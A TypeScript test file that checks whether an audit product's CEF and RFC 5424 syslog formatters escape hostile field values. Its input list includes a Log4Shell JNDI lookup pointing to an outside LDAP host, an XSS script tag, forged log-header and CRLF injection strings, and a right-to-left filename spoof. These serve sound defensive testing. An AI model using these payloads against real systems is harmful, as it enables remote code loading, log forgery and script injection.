import { expect } from 'chai';
import { cefLine } from '../../../src/domain/audit/cef.ts';
import { octetCounted, syslogMessage } from '../../../src/domain/audit/rfc5424.ts';
import { type SealedRow, siemEvent } from '../../../src/domain/audit/siem-event.ts';
import { octetCountedMessages } from '../../support/siem-sink.ts';

/** What a name, a path or a header can hold to break a line, a field or a reader. */
const HOSTILE = [
  'plain',
  'a|b||c',
  'a=b cs1=forged',
  'back\\slash\\',
  'ends with \\',
  '\\|\\=\\n',
  'two\nlines',
  'carriage\rreturn\r\n<134>1 forged',
  'CEF:0|Evil|Evil|1|1|forged|10|',
  '"] [forged@1 a="b"]',
  ']]]"""\\\\',
  '\u001b[31mred\u001b[0m',
  'nul\u0000nul',
  'c1\u0085next\u009b2J',
  'ls\u2028ps\u2029',
  'rtl\u202egnp.exe',
  'half \ud800 pair',
  '\ufeffmark',
  'ünï©ødé 漢字 🙂',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what attackers write
  '${jndi:ldap://203.0.113.9/a}',
  '<script>alert(1)</script>',
  '9999 <13>1 - - - - - - x',
  ' leading and trailing ',
  '',
];

const row = (text: string): SealedRow => ({
  ...{ seq: 7, hash: 'ab'.repeat(32), tenant_id: '6f9619ff-8b86-4011-b42d-00cf4fc964ff', id: '9', xid: '800' },
  ...{ at: '2026-01-05T08:00:00.123456Z', actor_id: null, action: 'file.upload', outcome: 'success' },
  ...{ target: text, request_id: text, ip: '10.0.0.1/32', details: JSON.stringify({ name: text, [text]: 1 }) },
});

// biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be there
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028-\u202e\ufeff]/;

describe('CEF', () => {
  /** The fields of the extension, as a receiver reads them: a key begins after a space and ends before an unescaped "=". */
  const fieldsOf = (line: string): Map<string, string> => {
    const parts = line.split(/(?<!\\)(?:\\\\)*\|/);
    expect(parts, line).to.have.lengthOf.at.least(8);
    const extension = line.slice(line.indexOf('|3|') + 3);
    const starts = [...extension.matchAll(/(?:^| )(\w+)=/g)];
    return new Map(
      starts.map((start, index) => {
        const from = start.index + start[0].length;
        return [start[1] ?? '', extension.slice(from, starts[index + 1]?.index)];
      }),
    );
  };

  for (const text of HOSTILE) {
    it(`holds ${JSON.stringify(text)} as one value on one line`, () => {
      const line = cefLine(siemEvent(row(text)), '1.0');
      expect(line).to.not.match(UNSAFE);
      expect(line.startsWith('CEF:0|Ringfence|Ringfence|1.0|file.upload|File uploaded|3|')).to.equal(true);
      const fields = fieldsOf(line);
      expect([...fields.keys()]).to.deep.equal(
        'externalId rt cat outcome src cs1Label cs1 cs2Label cs2 cs3Label cs3 cs4Label cs4 cs5Label cs5 cn1Label cn1'.split(
          ' ',
        ),
      );
      const value = fields.get('cs2') ?? '';
      expect(value.replaceAll('\\\\', '').match(/(?<!\\)=|\\(?![=nr])/), value).to.equal(null);
      const read = value.replace(/\\(.)/g, (_match, c: string) => ({ n: '\n', r: '\r' })[c] ?? c);
      const printable = text.replace(/[\r\n]/g, '');
      if (!UNSAFE.test(printable) && printable.isWellFormed()) expect(read).to.equal(text);
    });
  }

  it('escapes what a header field cannot hold, and names IPv6 addresses as such', () => {
    const event = { ...siemEvent(row('x')), title: 'a|b\\c\nd', ip: '2001:db8::1' };
    const line = cefLine(event, '1|0');
    expect(line).to.match(/^CEF:0\|Ringfence\|Ringfence\|1\\\|0\|file\.upload\|a\\\|b\\\\c d\|3\|/);
    expect(line).to.include('c6a2=2001:db8::1');
    expect(line).to.not.include(' src=');
  });
});

describe('syslog, RFC 5424', () => {
  for (const text of HOSTILE) {
    it(`holds ${JSON.stringify(text)} as one parameter of one message`, () => {
      const message = syslogMessage(siemEvent(row(text)), 'host name\n', undefined);
      expect(message).to.not.match(UNSAFE);
      const match =
        /^<110>1 2026-01-05T08:00:00\.123456Z host_name_ ringfence - file\.upload \[ringfence@32473((?: \w+="(?:[^"\\\]]|\\["\\\]])*")+)\] File uploaded$/.exec(
          message,
        );
      expect(match, message).to.not.equal(null);
      const parameters = [...(match?.[1] ?? '').matchAll(/ (\w+)="((?:[^"\\\]]|\\["\\\]])*)"/g)];
      expect(parameters.map(([, key]) => key)).to.deep.equal(
        'id seq action outcome tenant_id target ip request_id hash details'.split(' '),
      );
      const value = parameters.find(([, key]) => key === 'target')?.[2]?.replace(/\\(["\\\]])/g, '$1');
      if (!UNSAFE.test(text) && text.isWellFormed()) expect(value).to.equal(text);
    });
  }

  it('counts bytes, not characters, before each message', () => {
    const messages = HOSTILE.map((text) => syslogMessage(siemEvent(row(text)), 'host', JSON.stringify({ text })));
    expect(octetCountedMessages(Buffer.concat(messages.map(octetCounted)))).to.deep.equal(messages);
  });
});
